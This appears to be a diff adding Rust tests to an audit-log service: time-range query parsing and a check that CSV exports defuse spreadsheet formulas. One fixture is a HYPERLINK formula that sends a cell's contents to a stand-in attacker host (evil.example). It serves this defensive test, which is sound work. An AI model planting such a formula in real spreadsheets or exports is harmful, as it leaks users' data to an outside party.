@@ -751,8 +751,69 @@ async fn the_query_endpoint_reads_by_request_tenant_and_time() {
     assert_eq!(old["data"], json!([]));
     let bad = get("since=yesterday").await.unwrap();
     crate::support::expect_error(bad, 400).await;
+    // Offsets name instants (`%2B` is `+` in a URL): 08:00 in Beijing on 1 Jan
+    // 2000 is midnight UTC, long before any of these rows.
+    let all: Value = get("since=2000-01-01T08:00:00%2B08:00&tenant=default")
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(all["data"].as_array().unwrap().len(), 5, "{all}");
+    let none: Value = get("until=2000-01-01T03:00-05:00")
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(none["data"], json!([]));
+    // A day February does not have is refused, not read as 3 March.
+    let impossible = get("until=2026-02-31").await.unwrap();
+    let error = crate::support::expect_error(impossible, 400).await;
+    assert_eq!(error["param"], "until", "{error}");
     let anonymous = gw.get("/admin/audit").await;
     crate::support::expect_error(anonymous, 401).await;
+}
+
+#[tokio::test]
+async fn csv_exports_defuse_formulas_and_json_lines_keep_the_text() {
+    let db = fresh_database().await;
+    let store = ragway::audit::store::postgres::PgStore::connect_lazy(&db).unwrap();
+    store.migrate().await.unwrap();
+    let prompt = r#"=HYPERLINK("http://evil.example/?d="&A1,"Click")"#;
+    let mut row = sample_row("formula");
+    row.prompt = Some(prompt.to_owned());
+    row.answer = Some("+1 (555) 0100".to_owned());
+    row.user_agent = Some("@evil".to_owned());
+    store.append("gw-csv", &[row], None).await.unwrap();
+
+    let dir = temp_dir();
+    let config = dir.join("ragway.toml");
+    std::fs::write(&config, "[audit]\ndatabase_env = \"AUDIT_DB\"\n").unwrap();
+    let export = |format: &str| {
+        let out = std::process::Command::new(env!("CARGO_BIN_EXE_ragway"))
+            .arg("--config")
+            .arg(&config)
+            .args(["audit", "export", "--format", format])
+            .env("AUDIT_DB", &db)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{out:?}");
+        String::from_utf8(out.stdout).unwrap()
+    };
+    let csv = export("csv");
+    let line = csv.lines().nth(1).expect("a row after the header");
+    assert!(
+        line.contains(r#","'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")","#),
+        "{line}"
+    );
+    assert!(line.contains(",'+1 (555) 0100,"), "{line}");
+    assert!(line.contains(",'@evil,"), "{line}");
+    let jsonl = export("jsonl");
+    let exported: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+    assert_eq!(exported["prompt"], prompt);
+    assert_eq!(exported["answer"], "+1 (555) 0100");
+    assert_eq!(exported["user_agent"], "@evil");
 }
 
 #[tokio::test]
